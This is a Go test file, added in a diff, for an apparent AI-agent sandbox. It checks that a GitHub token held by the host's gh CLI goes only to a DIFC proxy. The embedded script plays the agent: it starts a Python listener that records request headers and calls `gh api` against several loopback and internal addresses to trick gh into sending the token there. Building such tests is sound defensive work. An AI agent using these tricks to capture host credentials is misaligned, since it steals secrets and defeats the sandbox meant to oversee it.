@@ -1,0 +1,89 @@
+package runner
+
+import (
+	"crypto/tls"
+	"net"
+	"net/http"
+	"os"
+	"path/filepath"
+	"strconv"
+	"strings"
+	"testing"
+
+	"github.com/awf-dev/awf/internal/testnet"
+)
+
+// TestCLIProxyTokenGoesOnlyToDIFC is the agent trying to make the host's
+// gh (which holds the token) send it somewhere the agent can read: a plain
+// HTTP listener of its own on the sandbox's loopback, reached with
+// `gh api http://127.0.0.1:<port>/...` (gh adds its token for any host
+// that is not github.com), or with --hostname. The token must reach the
+// DIFC proxy and nothing else.
+func TestCLIProxyTokenGoesOnlyToDIFC(t *testing.T) {
+	testnet.Require(t)
+	if _, err := os.Stat("/usr/bin/gh"); err != nil {
+		t.Skip("needs the host's gh (apt-get install gh)")
+	}
+	if _, err := os.Stat("/usr/bin/python3"); err != nil {
+		t.Skip("needs python3 for the agent's listener")
+	}
+	ca, err := testnet.NewCA()
+	if err != nil {
+		t.Fatal(err)
+	}
+	dir := t.TempDir()
+	caFile := filepath.Join(dir, "ca.crt")
+	os.WriteFile(caFile, ca.PEM(), 0o644)
+	ln, err := tls.Listen("tcp", "127.0.0.1:0", &tls.Config{Certificates: []tls.Certificate{ca.Leaf("localhost", "127.0.0.1")}})
+	if err != nil {
+		t.Fatal(err)
+	}
+	difc := &fakeDIFC{}
+	srv := &http.Server{Handler: difc}
+	go srv.Serve(ln)
+	defer srv.Close()
+	port := ln.Addr().(*net.TCPAddr).Port
+	token := secret("ghs_")
+
+	// The agent's listener: records every request head it gets, answers {}.
+	listener := `import socket,sys
+s=socket.socket(); s.setsockopt(socket.SOL_SOCKET,socket.SO_REUSEADDR,1)
+s.bind((sys.argv[1],int(sys.argv[2]))); s.listen(8); s.settimeout(20)
+f=open(sys.argv[3],'ab')
+while True:
+  try: c,_=s.accept()
+  except Exception: break
+  c.settimeout(3)
+  try: f.write(c.recv(65536)); f.flush()
+  except Exception: pass
+  try: c.sendall(b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: 2\r\nConnection: close\r\n\r\n{}")
+  except Exception: pass
+  c.close()
+`
+	script := strings.Join([]string{
+		"set +e",
+		"cat > /tmp/l.py <<'PY'\n" + listener + "PY",
+		"python3 /tmp/l.py 127.0.0.1 9911 /tmp/got & python3 /tmp/l.py 172.30.0.50 9912 /tmp/got &",
+		"sleep 0.5",
+		"echo difc: $(gh api /user)",
+		"gh api http://127.0.0.1:9911/a >/dev/null 2>&1",
+		"gh api http://localhost:9911/b >/dev/null 2>&1",
+		"gh api http://172.30.0.50:9912/c >/dev/null 2>&1",
+		"gh api --hostname 127.0.0.1:9911 /d >/dev/null 2>&1",
+		"gh api -H 'Host: x' http://[::ffff:127.0.0.1]:9911/e >/dev/null 2>&1",
+		"echo got: $(cat /tmp/got 2>/dev/null | tr -d \"\\r\" | grep -a -i authorization)",
+		"echo heads: $(grep -a -c '^GET' /tmp/got 2>/dev/null)",
+	}, "\n")
+	r := awf(t, []string{"GH_TOKEN=" + token, "GITHUB_REPOSITORY=octo/repo"},
+		"--difc-proxy-host", "host.docker.internal:"+strconv.Itoa(port), "--difc-proxy-ca-cert", caFile, "--", script)
+	got := lines(r.stdout)
+	if !strings.Contains(got["difc"], `"login":"octocat"`) {
+		t.Errorf("gh through the DIFC proxy: %q", got["difc"])
+	}
+	if strings.Contains(r.stdout, token) {
+		t.Errorf("the agent received the token:\n%s", r.stdout)
+	}
+	if t.Failed() {
+		t.Logf("stdout:\n%s\nstderr:\n%s", r.stdout, r.stderr)
+	}
+}
